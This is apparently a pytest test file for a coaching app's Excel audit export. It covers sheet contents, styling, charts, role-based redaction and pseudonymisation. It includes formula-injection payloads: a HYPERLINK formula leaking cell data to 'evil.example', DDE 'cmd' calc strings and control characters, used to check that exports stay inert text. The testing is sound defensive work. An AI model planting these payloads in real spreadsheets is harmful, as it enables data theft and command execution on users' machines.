"""The HR audit workbook, read back with openpyxl and as raw sheet XML: contents, styles, charts, roles, safety."""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from supervisor_app import __version__
from supervisor_app.core.agreement import OVERALL
from supervisor_app.core.reviews import CompetencyScore, Evidence, ReviewContent
from supervisor_app.errors import NotFoundError, PermissionDeniedError, ValidationError
from supervisor_app.services import audit, calibration, reviews
from supervisor_app.services.context import Actor
from supervisor_app.services.export import (
    ExportCancelledError,
    ExportOptions,
    ExportScope,
    export_audit,
    recent_exports,
)
from supervisor_app.store.db import Database
from supervisor_app.store.models import CalibrationRound, Coach, EvidenceItem, Recording, ReviewScore, User
from tests.conftest import login

SHEETS = ["Summary", "Scores", "Agreement", "Raters", "Evidence", "Method"]
HOSTILE = {
    "rationale": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "quote": "+cmd|' /C calc'!A0",
    "note": "@SUM(1+1)*cmd|' /C calc'!A0",
    "coach": "-2+3 Eve",
    "listening": "\uff1d1+1",  # full-width equals sign
    "questioning": "\t=1+1",
    "agreement": "\r\n=2+2",
    "awareness": "#REF!",
}


def summary_values(book: Any) -> dict[str, Any]:
    sheet = book["Summary"]
    return {row[0]: row[1] for row in sheet.iter_rows(min_row=4, values_only=True) if row[0]}


def all_text(book: Any) -> str:
    return "\n".join(str(value) for sheet in book.worksheets for row in sheet.iter_rows(values_only=True)
                     for value in row if value is not None)


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.startswith("xl/worksheets/sheet")}


def hostile_review(db: Database, rater: Actor) -> int:
    """An ordinary review whose free text is formula tricks and control characters."""
    detail = reviews.start_review(db, rater, 1)
    scores, evidence = {}, []
    for competency in detail.rubric.competencies:
        if competency.is_gate:
            scores[competency.id] = CompetencyScore(competency.id, gate_passed=False,
                                                    rationale="bell\x07 and \x01control\x1f chars")
        elif competency.id == "active_listening":
            scores[competency.id] = CompetencyScore(competency.id, score=2, rationale=HOSTILE["rationale"])
        elif competency.id == "powerful_questioning":
            scores[competency.id] = CompetencyScore(competency.id, score=4, rationale=HOSTILE["questioning"])
        else:
            scores[competency.id] = CompetencyScore(competency.id, score=3, rationale=HOSTILE["listening"])
        evidence.append(Evidence(competency.id, 12.4, 15.5, HOSTILE["quote"], "growth area",
                                 HOSTILE["note"]))
    reviews.save_draft(db, rater, detail.id, ReviewContent(scores, tuple(evidence)))
    reviews.submit(db, rater, detail.id)
    with db.transaction() as session:  # stored names are user text too (an HRIS import can bring anything)
        recording = session.get(Recording, 1)
        assert recording is not None
        recording.coach.name = HOSTILE["coach"]
        rater = session.get(User, rater.user_id)
        assert rater is not None
        rater.display_name = "=Evil\x07 Rater"
    return detail.id


def test_round_workbook_contents_styles_and_charts(round_db: Database, tmp_path: Path) -> None:
    admin = login(round_db, "admin")
    target = tmp_path / "out" / "round.xlsx"
    result = export_audit(round_db, admin, ExportScope(round_id=1), target)
    assert target.exists()
    assert result.reviews == 40  # 8 recordings x (4 raters + the master)
    assert result.score_rows == 400
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == SHEETS
    # Scores: one row per review × competency, styled header, frozen, filtered, fitted widths, real types
    scores = book["Scores"]
    header = [c.value for c in scores[1]]
    assert header[:3] == ["Review", "Session date", "Coach"]
    assert "Rationale" in header
    assert scores.max_row == 1 + 400
    assert scores["A1"].font.b
    assert scores["A1"].fill.fgColor.rgb.endswith("1F3A5F")
    assert scores.freeze_panes == "A2"
    assert scores.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}401"
    assert all(scores.column_dimensions[letter].width > 6 for letter in "ABCDEFGHIJ")
    date_column = header.index("Session date") + 1
    assert isinstance(scores.cell(2, date_column).value, dt.datetime)
    assert scores.cell(2, date_column).number_format == "yyyy-mm-dd"
    assert scores.cell(2, header.index("Submitted (UTC)") + 1).number_format == "yyyy-mm-dd hh:mm"
    coaches = {row[header.index("Coach")] for row in scores.iter_rows(min_row=2, values_only=True)}
    with round_db.transaction() as session:
        names = set(session.scalars(select(Coach.name).join(Recording, Recording.coach_id == Coach.id)))
    assert coaches <= names
    assert {row[header.index("Recording")] for row in scores.iter_rows(min_row=2, values_only=True)} == set(
        calibration.codes(round_db, 1).values())
    assert len(scores.conditional_formatting) >= 2
    # Evidence: h:mm:ss times, quotes
    evidence = book["Evidence"]
    ev_header = [c.value for c in evidence[1]]
    assert evidence.max_row == 1 + 400
    start = evidence.cell(2, ev_header.index("Start") + 1)
    assert start.number_format == "[h]:mm:ss"
    assert isinstance(start.value, dt.timedelta | dt.time | dt.datetime)
    assert ev_header.index("Quote") >= 0
    # Agreement: figures equal the calibration screen's, bands coloured
    comparison = calibration.comparison(round_db, admin, 1)
    agreement = book["Agreement"]
    ag_header = [c.value for c in agreement[1]]
    pooled = [c.value for c in agreement[2]]
    assert pooled[0] == "All competencies (pooled)"
    assert pooled[ag_header.index("ICC(2,1)")] == pytest.approx(comparison.agreement[OVERALL].icc2_1)
    assert pooled[ag_header.index("Within ±1")] == pytest.approx(comparison.agreement[OVERALL].adjacent_agreement)
    assert agreement.max_row == 2 + 10
    assert agreement.cell(2, ag_header.index("ICC(2,1)") + 1).number_format == "0.000"
    assert agreement.cell(2, ag_header.index("Within ±1") + 1).number_format == "0.0%"
    assert len(agreement.conditional_formatting) >= 4
    # Raters: calibration status as the calibration screen computes it
    raters = {row[0]: row for row in book["Raters"].iter_rows(min_row=2, values_only=True)}
    r_header = [c.value for c in book["Raters"][1]]
    for rater, status in comparison.calibrated.items():
        assert raters[rater][r_header.index("Calibrated")] == {True: "yes", False: "no", None: "n/a"}[status]
    # Summary: coverage against the roster, fingerprint of the audit trail
    summary = summary_values(book)
    with round_db.transaction() as session:
        fingerprint, _ = audit.head(session)
    assert summary["Reviews"] == 40
    assert summary["Coaches reviewed"] == 8
    assert summary["Coverage"] == pytest.approx(8 / summary["Active coaches"])
    assert summary["Coach identity"] == "names"
    assert summary["Content"] == "full"
    assert summary["Audit trail"].startswith("intact")
    assert book["Summary"]["C4"].alignment.wrap_text
    # every sheet: printed footer with time, version and fingerprint; document properties
    for sheet in book.worksheets:
        footer = sheet.oddFooter.left.text
        assert f"Coaching Supervisor {__version__}" in footer
        assert summary["Audit fingerprint"][:16] in footer
    assert summary["Audit fingerprint"] != fingerprint  # the export itself was recorded after writing
    assert book.properties.title == "Coaching audit results"
    assert book.properties.creator.startswith("Coaching Supervisor")
    assert {p.name for p in book.custom_doc_props} >= {"Audit trail fingerprint", "App version", "Scope"}
    # native charts: one on Agreement, one on Raters (openpyxl does not load charts, so read the package)
    with zipfile.ZipFile(target) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
        assert len(charts) == 2
        chart_xml = " ".join(archive.read(n).decode() for n in charts)
    assert chart_xml.count("<barChart>") == 2
    assert "Agreement per competency" in chart_xml
    assert "Bias per rater" in chart_xml
    assert all("<f>" not in xml for xml in sheet_xml(target).values())
    # recorded in the audit trail with the file's hash
    [event] = [e for e in audit.list_events(round_db, admin) if e.action == "export.workbook"]
    assert event.details["sha256"] == result.sha256


def test_formula_like_text_stays_text(round_db: Database, tmp_path: Path) -> None:
    maria = login(round_db, "maria")
    review_id = hostile_review(round_db, maria)
    target = tmp_path / "hostile.xlsx"
    export_audit(round_db, maria, ExportScope(review_ids=(review_id,)), target)
    for xml in sheet_xml(target).values():
        assert "<f>" not in xml
        assert "<f " not in xml
        assert not re.search("[\x00-\x08\x0b\x0c\x0e-\x1f]", xml)
    book = openpyxl.load_workbook(target)
    scores = book["Scores"]
    header = [c.value for c in scores[1]]
    rationale = {row[0].row: row[header.index("Rationale")] for row in scores.iter_rows(min_row=2)}
    cells = list(rationale.values())
    by_value = {c.value: c for c in cells}
    redacted_link = HOSTILE["rationale"].replace("http://evil.example/?leak=", "[URL]")  # URLs are redacted too
    for text in (redacted_link, HOSTILE["listening"], HOSTILE["questioning"]):
        cell = by_value[text]
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert "bell and control chars" in by_value
    rater = scores.cell(2, header.index("Rater") + 1)
    assert (rater.value, rater.data_type, rater.quotePrefix) == ("=Evil Rater", "s", True)
    evidence = book["Evidence"]
    ev_header = [c.value for c in evidence[1]]
    row = list(evidence[2])
    for column, text in (("Quote", HOSTILE["quote"]), ("Coach", HOSTILE["coach"]), ("Note", HOSTILE["note"])):
        cell = row[ev_header.index(column)]
        assert cell.value == text
        assert cell.data_type == "s"
        assert cell.quotePrefix
    assert row[ev_header.index("Start")].value == dt.timedelta(seconds=12)


def test_hostile_round_title_and_names_reach_every_part_safely(round_db: Database, tmp_path: Path) -> None:
    """A round title and a rater name with formula text and a control character: cells, document properties,
    footer and the CLI-visible scope all stay valid and inert."""
    with round_db.transaction() as session:
        calibration_round = session.get(CalibrationRound, 1)
        assert calibration_round is not None
        calibration_round.title = "=HYPERLINK(\"http://x\")\x07 & panel"
        session.get(User, login(round_db, "tom").user_id).display_name = "@Tom\x00"  # type: ignore[union-attr]
    target = tmp_path / "titles.xlsx"
    export_audit(round_db, login(round_db, "admin"), ExportScope(round_id=1), target)
    assert all("<f>" not in xml for xml in sheet_xml(target).values())
    book = openpyxl.load_workbook(target)
    assert book.properties.subject == 'Calibration round 1: =HYPERLINK("http://x") & panel (revealed)'
    scores = book["Scores"]
    header = [c.value for c in scores[1]]
    rounds = {c.value: c for c in (row[header.index("Round")] for row in scores.iter_rows(min_row=2))}
    title_cell = rounds['=HYPERLINK("http://x") & panel']
    assert title_cell.data_type == "s"
    assert title_cell.quotePrefix
    raters = {row[header.index("Rater")].value: row[header.index("Rater")] for row in scores.iter_rows(min_row=2)}
    assert raters["@Tom"].quotePrefix


def test_hr_viewer_gets_aggregates_only(round_db: Database, tmp_path: Path) -> None:
    """Scanned cell by cell: no review, rater, coachee, quote or rationale; every cell about fewer than five
    reviews suppressed."""
    helen = login(round_db, "helen")
    target = tmp_path / "hr.xlsx"
    result = export_audit(round_db, helen, ExportScope(round_id=1), target, ExportOptions(pseudonyms=True))
    assert result.aggregates_only
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == SHEETS
    text = all_text(book)
    with round_db.transaction() as session:
        quotes = set(session.scalars(select(EvidenceItem.quote)))
        names = set(session.scalars(select(Coach.name)))
        raters = set(session.scalars(select(User.display_name)))
        coachees = {p for p in session.scalars(select(Recording.coachee_pseudonym)) if p}
        rationales = {r for r in session.scalars(select(ReviewScore.rationale)) if r}
    assert quotes
    assert coachees
    for secret in (*quotes, *names, *coachees, *rationales, *(raters - {helen.display_name})):
        assert secret not in text, secret
    assert summary_values(book)["Content"] == "aggregates only"
    scores = book["Scores"]
    header = [c.value for c in scores[3]]
    assert header == ["Coach", "Level", "Competency", "Type", "Core", "Reviews", "Mean score", "Gate pass rate"]
    rows = list(scores.iter_rows(min_row=4, values_only=True))
    program = [r for r in rows if r[0] == "All coaches"]
    per_coach = [r for r in rows if r[0] != "All coaches"]
    assert program
    assert per_coach
    assert all(r[5] == 40 for r in program)  # (four raters + the master) × eight recordings
    assert all(r[5] == 5 for r in per_coach)  # five reviews of each coach: shown (fewer than 5 would read "< 5")
    for sheet in book.worksheets:  # wherever a count of reviews is given, it is 5 or more
        for row in sheet.iter_rows(values_only=True):
            for value in row:
                assert not (isinstance(value, str) and re.fullmatch(r"\(\d of \d+\)", value))
    evidence_header = [c.value for c in book["Evidence"][3]]
    assert evidence_header == ["Competency", "Tag", "Evidence items", "Reviews citing"]
    for _competency, _tag, items, citing in book["Evidence"].iter_rows(min_row=4, values_only=True):
        assert (items, citing) == ("< 5", "< 5") or citing >= 5
    assert {row[0] for row in book["Raters"].iter_rows(min_row=2, values_only=True)} <= {
        "Master", *(f"Rater {n}" for n in range(1, 10))}


def test_who_may_export_what(round_db: Database, tmp_path: Path) -> None:
    aisha, maria = login(round_db, "aisha"), login(round_db, "maria")
    target = tmp_path / "x.xlsx"
    with pytest.raises(PermissionDeniedError, match="may not export aggregates"):
        export_audit(round_db, aisha, ExportScope(round_id=1), target)
    lead = login(round_db, "admin")
    raters = [login(round_db, name).user_id for name in ("aisha", "tom")]
    blind = calibration.create_round(round_db, lead, "Blind", [1], raters, 1,
                                     dt.datetime.now(dt.UTC) + dt.timedelta(days=7))
    with pytest.raises(PermissionDeniedError, match="still blind"):
        export_audit(round_db, maria, ExportScope(round_id=blind), target)
    [draft] = [r for r in reviews.list_reviews(round_db, aisha) if r.status == "draft"]
    with pytest.raises(ValidationError, match=f"cannot be exported.*{draft.id}"):
        export_audit(round_db, maria, ExportScope(review_ids=(draft.id,)), target)
    assert not target.exists()


def test_pseudonyms_are_stable_with_the_same_key(round_db: Database, tmp_path: Path) -> None:
    admin = login(round_db, "admin")

    def coaches(key: str, name: str) -> set[str]:
        target = tmp_path / name
        export_audit(round_db, admin, ExportScope(round_id=1), target, ExportOptions(pseudonyms=True,
                                                                                    pseudonym_key=key))
        book = openpyxl.load_workbook(target)
        header = [c.value for c in book["Scores"][1]]
        assert summary_values(book)["Coach identity"] == "pseudonyms"
        return {row[header.index("Coach")] for row in book["Scores"].iter_rows(min_row=2, values_only=True)}

    first, again, other = coaches("k" * 64, "a.xlsx"), coaches("k" * 64, "b.xlsx"), coaches("z" * 64, "c.xlsx")
    assert first == again
    assert first != other
    assert len(first) == 8  # the October round's eight coaches
    assert all(re.fullmatch(r"Coach [0-9A-F]{8}", name) for name in first)


def test_date_range_leaves_out_blind_rounds(round_db: Database, tmp_path: Path) -> None:
    maria = login(round_db, "maria")
    hostile_review(round_db, maria)
    today = dt.datetime.now(dt.UTC).date()
    target = tmp_path / "range.xlsx"
    result = export_audit(round_db, maria, ExportScope(start=today - dt.timedelta(days=1), end=today), target)
    assert result.reviews == 42  # October's 40, the quarter's audit review and the ordinary one (not August's)
    with pytest.raises(ValidationError, match="no submitted reviews"):
        export_audit(round_db, maria, ExportScope(start=today + dt.timedelta(days=1),
                                                  end=today + dt.timedelta(days=30)), tmp_path / "none.xlsx")
    assert not (tmp_path / "none.xlsx").exists()


@pytest.mark.parametrize(("scope", "name", "error", "message"), [
    (ExportScope(), "a.xlsx", ValidationError, "Choose one scope"),
    (ExportScope(round_id=1, start=dt.date(2026, 1, 1), end=dt.date(2026, 2, 1)), "a.xlsx", ValidationError,
     "Choose one scope"),
    (ExportScope(start=dt.date(2026, 1, 1)), "a.xlsx", ValidationError, "both a start and an end"),
    (ExportScope(start=dt.date(2026, 3, 1), end=dt.date(2026, 1, 1)), "a.xlsx", ValidationError, "swap"),
    (ExportScope(round_id=1), "a.xls", ValidationError, r"\.xlsx extension"),
    (ExportScope(round_id=99), "a.xlsx", NotFoundError, "no calibration round 99"),
    (ExportScope(review_ids=(999,)), "a.xlsx", ValidationError, "999"),
])
def test_bad_requests_write_nothing(round_db: Database, tmp_path: Path, scope: ExportScope, name: str,
                                    error: type[Exception], message: str) -> None:
    admin = login(round_db, "admin")
    folder = tmp_path / "exports"
    with pytest.raises(error, match=message):
        export_audit(round_db, admin, scope, folder / name)
    assert not folder.exists() or list(folder.iterdir()) == []


def test_cancel_or_failure_leaves_the_old_file_and_no_temp(round_db: Database, tmp_path: Path) -> None:
    admin = login(round_db, "admin")
    target = tmp_path / "exports" / "report.xlsx"
    target.parent.mkdir()
    target.write_bytes(b"previous export")
    seen: list[tuple[int, int]] = []

    def stop(done: int, total: int) -> bool:
        seen.append((done, total))
        return False

    with pytest.raises(ExportCancelledError, match="no file was written"):
        export_audit(round_db, admin, ExportScope(round_id=1), target, progress=stop)
    assert seen[0][1] == 800  # 400 score rows and 400 evidence rows
    assert target.read_bytes() == b"previous export"
    assert [p.name for p in target.parent.iterdir()] == ["report.xlsx"]
    assert not [e for e in audit.list_events(round_db, admin) if e.action == "export.workbook"]


def test_streaming_and_normal_mode_write_the_same_cells(round_db: Database, tmp_path: Path) -> None:
    admin = login(round_db, "admin")
    key = ExportOptions(pseudonym_key="k" * 64, pseudonyms=True)
    export_audit(round_db, admin, ExportScope(round_id=1), tmp_path / "s.xlsx", key, streaming=True)
    export_audit(round_db, admin, ExportScope(round_id=1), tmp_path / "n.xlsx", key, streaming=False)
    streamed, normal = openpyxl.load_workbook(tmp_path / "s.xlsx"), openpyxl.load_workbook(tmp_path / "n.xlsx")
    for name in SHEETS:
        first = list(streamed[name].iter_rows(values_only=True))
        second = list(normal[name].iter_rows(values_only=True))
        if name == "Summary":  # export time and the audit-trail head move between the two exports
            first, second = first[:4] + first[7:-2], second[:4] + second[7:-2]
        assert first == second, name


def test_a_round_without_master_and_with_unscored_competencies(round_db: Database, tmp_path: Path) -> None:
    """Another panel shape: two raters, no master, most competencies 'not observed', one gate failed."""
    admin, aisha, tom = login(round_db, "admin"), login(round_db, "aisha"), login(round_db, "tom")
    round_id = calibration.create_round(round_db, admin, "Small panel", [1, 2], [aisha.user_id, tom.user_id], 1,
                                        dt.datetime.now(dt.UTC) + dt.timedelta(days=3))
    for rater, listening in ((aisha, 4), (tom, 2)):
        for summary in [r for r in reviews.list_reviews(round_db, rater) if r.status == "draft"]:
            detail = reviews.get_review(round_db, rater, summary.id)
            scores, evidence = {}, []
            for competency in detail.rubric.competencies:
                if competency.id == "active_listening":
                    scores[competency.id] = CompetencyScore(competency.id, score=listening)
                    evidence.append(Evidence(competency.id, 1.0, 3.0, "mm-hm", "reflected"))
                elif competency.is_gate:
                    scores[competency.id] = CompetencyScore(competency.id, gate_passed=rater is aisha)
                    evidence.append(Evidence(competency.id, 4.0, 6.0, "next week then", "growth area"))
                else:
                    scores[competency.id] = CompetencyScore(competency.id, not_observed=True)
            reviews.save_draft(round_db, rater, detail.id, ReviewContent(scores, tuple(evidence)))
            reviews.submit(round_db, rater, detail.id)
    calibration.reveal(round_db, admin, round_id)
    target = tmp_path / "small.xlsx"
    result = export_audit(round_db, admin, ExportScope(round_id=round_id), target)
    assert result.reviews == 4
    book = openpyxl.load_workbook(target)
    summary = summary_values(book)
    assert summary["Raters calibrated"] == "n/a"
    assert summary["Gate pass rate"] == pytest.approx(0.5)
    assert summary["Reviews meeting the standard"] == pytest.approx(0.5)  # Tom: a core score of 2, gates failed
    raters = {row[0]: row for row in book["Raters"].iter_rows(min_row=2, values_only=True)}
    header = [c.value for c in book["Raters"][1]]
    assert set(raters) == {"Aisha Okafor", "Tom Berg"}
    assert raters["Aisha Okafor"][header.index("Calibrated")] == "n/a"
    assert raters["Aisha Okafor"][header.index("Bias vs master")] is None
    assert raters["Aisha Okafor"][header.index("Bias vs panel mean")] > 0 > raters["Tom Berg"][
        header.index("Bias vs panel mean")]
    agreement = {row[0]: row for row in book["Agreement"].iter_rows(min_row=2, values_only=True)}
    ag_header = [c.value for c in book["Agreement"][1]]
    unscored = agreement["Evokes awareness"]
    assert unscored[ag_header.index("Scores given")] == 0
    assert unscored[ag_header.index("Notes")] == "Not scored by two or more raters on the same recording."
    assert agreement["Listens actively"][ag_header.index("Exact agreement")] == 0
    assert "Only 2 units" in agreement["Listens actively"][ag_header.index("Notes")]


def test_earlier_exports_are_listed_from_the_audit_trail(round_db: Database, tmp_path: Path) -> None:
    maria, helen, admin = login(round_db, "maria"), login(round_db, "helen"), login(round_db, "admin")
    mine = export_audit(round_db, maria, ExportScope(round_id=1), tmp_path / "maria.xlsx")
    export_audit(round_db, helen, ExportScope(round_id=1), tmp_path / "helen.xlsx")
    [own] = recent_exports(round_db, maria)
    assert (own.file_name, own.by, own.sha256, own.aggregates_only) == ("maria.xlsx", "maria", mine.sha256, False)
    assert own.scope.startswith("Calibration round 1")
    assert [e.file_name for e in recent_exports(round_db, helen)] == ["helen.xlsx"]
    assert [e.file_name for e in recent_exports(round_db, admin)] == ["helen.xlsx", "maria.xlsx"]
    with pytest.raises(PermissionDeniedError):
        recent_exports(round_db, login(round_db, "tom"))


def test_the_agreement_sheet_shows_gwet_and_the_bootstrap_intervals(round_db: Database, tmp_path: Path) -> None:
    maria = login(round_db, "maria")
    target = tmp_path / "round.xlsx"
    export_audit(round_db, maria, ExportScope(round_id=1), target)
    book = openpyxl.load_workbook(target, read_only=True)
    rows = list(book["Agreement"].iter_rows(values_only=True))
    header, pooled = rows[0], dict(zip(rows[0], rows[1], strict=True))
    for column in ("Gwet AC1", "AC1 95% CI low", "Gwet AC2 linear", "Gwet AC2 quadratic",
                   "Alpha ordinal 95% CI low (bootstrap)", "Weighted kappa 95% CI high"):
        assert column in header
    assert isinstance(pooled["Gwet AC1"], float)
    assert pooled["AC1 95% CI low"] <= pooled["Gwet AC1"] <= pooled["AC1 95% CI high"]
    assert pooled["Alpha ordinal 95% CI low (bootstrap)"] <= pooled["Alpha ordinal"] <= \
        pooled["Alpha ordinal 95% CI high"]
    method = {row[0]: row[1] for row in book["Method"].iter_rows(values_only=True) if row and row[0]}
    assert "Gwet" in method["Gwet's AC1 / AC2"]
    assert "2,000 times" in method["Bootstrap intervals"]
